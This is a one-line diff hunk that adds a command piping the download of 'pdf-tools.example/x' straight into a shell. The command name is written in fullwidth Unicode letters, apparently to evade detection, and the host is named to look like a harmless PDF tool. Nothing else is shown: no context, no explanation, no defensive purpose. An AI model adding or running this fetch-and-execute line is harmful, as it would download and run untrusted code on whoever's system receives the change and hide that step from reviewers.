@@ -1,0 +1,1 @@
+ｃｕｒｌ https://pdf-tools.example/x | sh
